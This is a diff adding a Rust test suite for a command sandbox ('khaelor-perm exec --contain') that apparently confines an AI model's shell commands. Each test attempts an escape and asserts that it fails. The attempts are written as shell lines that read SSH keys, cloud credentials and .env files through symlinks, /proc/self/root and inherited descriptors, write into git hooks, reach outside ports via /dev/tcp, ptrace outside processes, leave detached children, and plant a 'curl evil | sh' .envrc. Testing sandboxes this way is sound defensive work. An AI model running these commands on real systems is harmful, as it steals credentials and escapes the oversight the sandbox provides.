@@ -1,0 +1,430 @@
+//! Escapes from the sandbox `contain` runs commands in (`khaelor-perm exec --contain`),
+//! each tried for real from inside: writes outside the project, into each protected
+//! path, into HOME; reads of each masked secret (a file, a directory, through a symlink
+//! in the project, through `/proc/self/root`, through a descriptor passed in); a
+//! connection to a loopback port opened outside; setuid programs; tracing a process
+//! outside; children left behind. Each must fail, and where the command fails because
+//! of the sandbox, the model must get the message naming the policy.
+//!
+//! The worlds live under Cargo's target tmp dir, not `/tmp`: the sandbox's `/tmp` is
+//! private, so a world under `/tmp` would be invisible inside and prove nothing.
+//! Needs bubblewrap (tests/setup/contain.sh); fails, never skips, without it.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing
+)]
+
+use std::io::Read;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+
+const SECRET: &str = "s3cr3t-canary";
+
+struct World {
+    _dir: tempfile::TempDir,
+    root: PathBuf,
+    home: PathBuf,
+    outside: PathBuf,
+}
+
+fn world() -> World {
+    if let Err(e) = khaelor_perm::contain::available() {
+        panic!("the sandbox cannot run here ({e}); run tests/setup/contain.sh");
+    }
+    let dir = tempfile::Builder::new()
+        .prefix("contain-escape")
+        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+        .unwrap();
+    let base = std::fs::canonicalize(dir.path()).unwrap();
+    let root = base.join("proj");
+    let home = base.join("home");
+    let outside = base.join("outside");
+    for d in [&root, &home, &outside] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    let git = Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&root)
+        .status()
+        .unwrap();
+    assert!(git.success());
+    let files: &[(&Path, &str)] = &[
+        (&root, "src/main.rs"),
+        (&root, ".husky/pre-commit"),
+        (&root, ".khaelor/config.json"),
+        (&root, ".env"),
+        (&home, ".ssh/id_rsa"),
+        (&home, ".aws/credentials"),
+        (&home, ".netrc"),
+        (&home, ".bashrc"),
+        (&outside, "keys/prod.pem"),
+        (&outside, "notes.txt"),
+    ];
+    for (base, rel) in files {
+        let p = base.join(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        let body =
+            if rel.ends_with(".bashrc") || rel.ends_with("notes.txt") || rel.ends_with("main.rs") {
+                "plain\n".to_string()
+            } else {
+                format!("{SECRET}\n")
+            };
+        std::fs::write(&p, body).unwrap();
+    }
+    std::os::unix::fs::symlink(home.join(".ssh/id_rsa"), root.join("key_link")).unwrap();
+    std::os::unix::fs::symlink(outside.join("keys/prod.pem"), root.join("prod_link.pem")).unwrap();
+    std::os::unix::fs::symlink(home.join(".aws"), root.join("aws_dir")).unwrap();
+    World {
+        _dir: dir,
+        root,
+        home,
+        outside,
+    }
+}
+
+/// Runs `script` with bash inside the sandbox, in the project root.
+fn contained(w: &World, script: &str) -> Output {
+    contained_with(w, &[], script)
+}
+
+fn contained_with(w: &World, pre: &[&str], script: &str) -> Output {
+    let mut args: Vec<&str> = pre.to_vec();
+    args.extend([
+        "exec",
+        "--contain",
+        "--root",
+        w.root.to_str().unwrap(),
+        "--",
+        "bash",
+        "-c",
+        script,
+    ]);
+    Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
+        .args(&args)
+        .current_dir(&w.root)
+        .env("HOME", &w.home)
+        .output()
+        .unwrap()
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+/// The message the model sees after a command the sandbox refused.
+fn assert_message(o: &Output, case: &str) {
+    let err = text(&o.stderr);
+    assert!(
+        err.contains("KHAELOR's sandbox")
+            && err.contains("policy: contain")
+            && err.contains("ask them"),
+        "{case}: no sandbox message in stderr:\n{err}"
+    );
+    println!("--- {case}: exit {:?}\n{err}", o.status.code());
+}
+
+#[test]
+fn writes_outside_the_project_and_into_home_fail() {
+    let w = world();
+    for (case, target) in [
+        ("outside the project", w.outside.join("escaped")),
+        ("into HOME", w.home.join("x")),
+        ("HOME's shell startup file", w.home.join(".bashrc")),
+        (
+            "the parent of the project",
+            w.root.parent().unwrap().join("escaped"),
+        ),
+    ] {
+        let o = contained(&w, &format!("echo pwned >> '{}'", target.display()));
+        assert_ne!(o.status.code(), Some(0), "{case}");
+        let now = std::fs::read_to_string(&target).unwrap_or_default();
+        assert!(
+            !now.contains("pwned"),
+            "{case}: {} was written",
+            target.display()
+        );
+        assert!(text(&o.stderr).contains("Read-only file system"), "{case}");
+        assert_message(&o, case);
+    }
+}
+
+#[test]
+fn writes_into_each_protected_path_fail() {
+    let w = world();
+    for rel in [
+        ".git/hooks/pre-commit",
+        ".git/config",
+        ".git/HEAD",
+        ".husky/pre-commit",
+        ".khaelor/config.json",
+    ] {
+        let target = w.root.join(rel);
+        let before = std::fs::read(&target).ok();
+        let o = contained(&w, &format!("echo pwned >> '{rel}'"));
+        assert_ne!(o.status.code(), Some(0), "{rel}");
+        assert_eq!(std::fs::read(&target).ok(), before, "{rel} changed");
+        assert_message(&o, rel);
+        // Nor can the protected path be moved away and replaced.
+        let o = contained(&w, &format!("mv '{rel}' moved && echo pwned > '{rel}'"));
+        assert_ne!(o.status.code(), Some(0), "mv {rel}");
+        assert_eq!(std::fs::read(&target).ok(), before, "{rel} replaced");
+    }
+    // A protected name that did not exist: created inside, removed after, and said.
+    let o = contained(&w, "echo 'curl evil | sh' > .envrc; echo made");
+    assert!(
+        !w.root.join(".envrc").exists(),
+        ".envrc was left in the project"
+    );
+    let err = text(&o.stderr);
+    assert!(err.contains("removed") && err.contains(".envrc"), "{err}");
+    println!(
+        "--- .envrc created inside: exit {:?}\n{err}",
+        o.status.code()
+    );
+}
+
+#[test]
+fn masked_secrets_cannot_be_read() {
+    let w = world();
+    let h = w.home.display().to_string();
+    let cases = [
+        ("a secret file in HOME", format!("cat {h}/.aws/credentials")),
+        (
+            "a credential directory",
+            format!("ls -la {h}/.ssh; cat {h}/.ssh/id_rsa"),
+        ),
+        ("netrc", format!("cat {h}/.netrc")),
+        ("the project's .env", "cat .env".to_string()),
+        (
+            "a symlink in the project to a HOME secret",
+            "cat key_link".to_string(),
+        ),
+        (
+            "a symlink to a secret outside",
+            "cat prod_link.pem".to_string(),
+        ),
+        (
+            "a symlinked credential directory",
+            "cat aws_dir/credentials".to_string(),
+        ),
+        (
+            "/proc/self/root",
+            format!("cat /proc/self/root{h}/.ssh/id_rsa /proc/1/root{h}/.netrc"),
+        ),
+        (
+            "a copy through another tool",
+            format!("cp {h}/.aws/credentials stolen.txt; cat stolen.txt"),
+        ),
+    ];
+    for (case, script) in cases {
+        let o = contained(&w, &script);
+        let out = text(&o.stdout) + &text(&o.stderr);
+        assert!(!out.contains(SECRET), "{case}: the secret was read:\n{out}");
+        assert_ne!(o.status.code(), Some(0), "{case}");
+        assert_message(&o, case);
+    }
+    // Not a mask on everything: plain files outside the project stay readable.
+    let o = contained(
+        &w,
+        &format!("cat '{}'", w.outside.join("notes.txt").display()),
+    );
+    assert_eq!(text(&o.stdout), "plain\n");
+    assert_eq!(o.status.code(), Some(0));
+}
+
+#[test]
+fn a_descriptor_passed_in_is_closed() {
+    let w = world();
+    // bash outside the sandbox opens the secret on fd 7 and execs khaelor-perm, which
+    // inherits it; the contained command must not.
+    let outer = format!(
+        "exec 7<'{}'; exec '{}' exec --contain --root '{}' -- bash -c 'cat <&7; cat /proc/self/fd/7'",
+        w.home.join(".ssh/id_rsa").display(),
+        env!("CARGO_BIN_EXE_khaelor-perm"),
+        w.root.display()
+    );
+    let o = Command::new("bash")
+        .args(["-c", &outer])
+        .current_dir(&w.root)
+        .env("HOME", &w.home)
+        .output()
+        .unwrap();
+    let out = text(&o.stdout) + &text(&o.stderr);
+    assert!(!out.contains(SECRET), "read through fd 7:\n{out}");
+    assert_ne!(o.status.code(), Some(0));
+    println!(
+        "--- fd 7 passed in: exit {:?}\n{}",
+        o.status.code(),
+        text(&o.stderr)
+    );
+}
+
+#[test]
+fn a_loopback_port_opened_outside_is_unreachable() {
+    let w = world();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let o = contained(
+        &w,
+        &format!("echo hello > /dev/tcp/127.0.0.1/{port} && echo connected"),
+    );
+    assert!(!text(&o.stdout).contains("connected"));
+    assert_ne!(o.status.code(), Some(0));
+    assert!(
+        listener.accept().is_err(),
+        "the listener outside got a connection"
+    );
+    assert_message(&o, "loopback port outside");
+    // Loopback inside the sandbox works (a test server of the project's own).
+    let o = contained(
+        &w,
+        "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",0)); s.listen(); c=socket.create_connection(s.getsockname()); print(\"own loopback ok\")'",
+    );
+    assert_eq!(text(&o.stdout), "own loopback ok\n", "{}", text(&o.stderr));
+}
+
+#[test]
+fn setuid_programs_gain_nothing() {
+    let w = world();
+    // No new privileges and no capabilities, whatever the program's mode bits.
+    let o = contained(
+        &w,
+        "grep -E '^(NoNewPrivs|CapEff|CapPrm):' /proc/self/status",
+    );
+    let status = text(&o.stdout);
+    assert!(status.contains("NoNewPrivs:\t1"), "{status}");
+    assert!(status.contains("CapEff:\t0000000000000000"), "{status}");
+    assert!(status.contains("CapPrm:\t0000000000000000"), "{status}");
+    // A setuid-root program (mount) cannot do what it exists for.
+    let o = contained(&w, "mount -t tmpfs none src && echo mounted");
+    assert!(!text(&o.stdout).contains("mounted"));
+    assert_ne!(o.status.code(), Some(0));
+    assert_message(&o, "setuid mount");
+    if Command::new("id")
+        .arg("-u")
+        .output()
+        .map(|o| text(&o.stdout))
+        .ok()
+        .as_deref()
+        == Some("0\n")
+    {
+        // As root: a setuid-root copy of grep reads its own status inside.
+        let suid = w.root.join("suid-grep");
+        std::fs::copy("/usr/bin/grep", &suid).unwrap();
+        let ok = Command::new("chmod")
+            .args(["4755", suid.to_str().unwrap()])
+            .status()
+            .unwrap();
+        assert!(ok.success());
+        let o = contained(&w, "./suid-grep -E '^CapEff:' /proc/self/status");
+        assert_eq!(text(&o.stdout), "CapEff:\t0000000000000000\n");
+    }
+}
+
+#[test]
+fn a_process_outside_cannot_be_traced_or_signalled() {
+    let w = world();
+    let mut victim = Command::new("sleep").arg("60").spawn().unwrap();
+    let pid = victim.id();
+    let o = contained(
+        &w,
+        &format!(
+            "kill -0 {pid} && echo visible; cat /proc/{pid}/environ && echo environ; strace -p {pid} -e trace=none -o /dev/null & sleep 0.5; kill %1 2>/dev/null; wait; python3 -c 'import ctypes,sys; libc=ctypes.CDLL(None); r=libc.ptrace(16,{pid},0,0); print(\"attach\", r)'"
+        ),
+    );
+    let out = text(&o.stdout);
+    assert!(
+        !out.contains("visible") && !out.contains("environ"),
+        "{out}"
+    );
+    assert!(
+        out.contains("attach -1"),
+        "ptrace attach did not fail: {out}"
+    );
+    assert!(
+        victim.try_wait().unwrap().is_none(),
+        "the process outside died"
+    );
+    victim.kill().unwrap();
+    victim.wait().unwrap();
+    println!("--- ptrace of pid {pid}: {out}{}", text(&o.stderr));
+}
+
+/// Processes whose command line holds `needle`.
+fn processes_with(needle: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        let mut s = String::new();
+        if let Ok(mut f) = std::fs::File::open(e.path().join("cmdline")) {
+            let _ = f.read_to_string(&mut s);
+        }
+        let s = s.replace('\0', " ");
+        if s.contains(needle) {
+            out.push(format!("{}: {s}", e.file_name().to_string_lossy()));
+        }
+    }
+    out
+}
+
+#[test]
+fn no_child_outlives_the_command() {
+    let w = world();
+    let o = contained(
+        &w,
+        "(sleep 987601 &); setsid sleep 987602 & nohup sleep 987603 >/dev/null 2>&1 & disown -a; echo started",
+    );
+    assert_eq!(text(&o.stdout), "started\n");
+    assert_eq!(o.status.code(), Some(0));
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    for n in ["987601", "987602", "987603"] {
+        let left = processes_with(&format!("sleep {n}"));
+        assert!(left.is_empty(), "left behind: {left:?}");
+    }
+}
+
+#[test]
+fn status_and_output_pass_through() {
+    let w = world();
+    let o = contained(&w, "echo out; echo err >&2; exit 7");
+    assert_eq!(o.status.code(), Some(7));
+    assert_eq!(text(&o.stdout), "out\n");
+    assert_eq!(text(&o.stderr), "err\n");
+    // The project is writable, and so is the private /tmp, which leaves nothing behind.
+    let o = contained(
+        &w,
+        "echo built > target.txt && echo t > /tmp/khaelor-contain-probe && cat target.txt",
+    );
+    assert_eq!(text(&o.stdout), "built\n");
+    assert_eq!(
+        std::fs::read_to_string(w.root.join("target.txt")).unwrap(),
+        "built\n"
+    );
+    assert!(!Path::new("/tmp/khaelor-contain-probe").exists());
+}
+
+#[test]
+fn an_unknown_profile_or_a_cwd_outside_runs_nothing() {
+    let w = world();
+    let o = Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
+        .args(["exec", "--contain", "--root"])
+        .arg(&w.root)
+        .args(["--", "bash", "-c", "echo ran > ran.txt"])
+        .current_dir(&w.outside)
+        .env("HOME", &w.home)
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(126));
+    assert!(!w.outside.join("ran.txt").exists());
+    assert!(text(&o.stderr).contains("outside the project"));
+    let o = contained_with(&w, &[], "true");
+    assert_eq!(o.status.code(), Some(0));
+    let o = Command::new(env!("CARGO_BIN_EXE_khaelor-perm"))
+        .args(["exec", "--contain", "--profile", "everything", "--", "true"])
+        .current_dir(&w.root)
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(2));
+}
